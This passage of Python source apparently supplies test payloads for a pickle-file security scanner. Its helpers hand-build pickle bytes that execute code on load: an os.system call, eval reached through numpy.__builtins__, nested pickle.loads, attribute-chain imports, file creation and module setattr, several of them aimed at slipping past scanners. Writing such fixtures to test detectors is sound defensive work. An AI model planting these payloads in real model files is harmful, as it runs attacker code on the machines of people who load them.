            + _short_unicode("os") + b"\x85R" + _short_unicode("system") + b"\x93("
            + _short_unicode("true") + b"tR.")


def numpy_builtins_eval(expression: str) -> bytes:
    """The ``numpy.__builtins__`` route to eval (protectai/modelscan#330 style)."""
    return (
        b"\x80\x04"
        + _short_unicode("_operator") + _short_unicode("getitem") + b"\x93"
        + _short_unicode("numpy") + _short_unicode("__builtins__") + b"\x93"
        + _short_unicode("eval") + b"\x86R"  # getitem(numpy.__builtins__, 'eval')
        + _short_unicode(expression) + b"\x85R."
    )


def attribute_chain_global(module: str, chain: str, *args: str) -> bytes:
    """A protocol-4 dotted name (``numpy`` + ``testing.os.system``) reaching a module through attributes."""
    return stack_global_call(module, chain, *args)


def nested_pickle(inner: bytes) -> bytes:
    """``pickle.loads(<inner pickle>)``: the payload hidden in a bytes argument."""
    header = b"C" + bytes([len(inner)]) if len(inner) < 256 else b"B" + struct.pack("<I", len(inner))
    return (b"\x80\x04" + _short_unicode("pickle") + _short_unicode("loads") + b"\x93" + header + inner
            + b"\x85R.")


def file_creating_pickle(target: str) -> bytes:
    """``open(target, 'w')``: creates ``target`` when unpickled (and does nothing else)."""
    return stack_global_call("builtins", "open", target, "w", protocol=4)


def extension_code_pickle(code: int = 1234) -> bytes:
    return b"\x80\x02\x83" + struct.pack("<H", code) + b")R."


def proto5_bytearray_pickle(module: str, name: str, arg: str) -> bytes:
    """Protocol 5 with a frame and a BYTEARRAY8 before the payload."""
    body = (b"\x96" + struct.pack("<Q", 3) + b"abc" + b"0" + _short_unicode(module) + _short_unicode(name)
            + b"\x93" + _short_unicode(arg) + b"\x85R.")
    return b"\x80\x05\x95" + struct.pack("<Q", len(body)) + body


def build_on_global(module: str, name: str, attribute: str, value: str) -> bytes:
    """BUILD on an imported module: ``setattr(module, attribute, value)`` via slot state."""
    return (b"\x80\x04" + _short_unicode(module) + _short_unicode(name) + b"\x93"
            + b"N}" + _short_unicode(attribute) + _short_unicode(value) + b"s\x86b.")
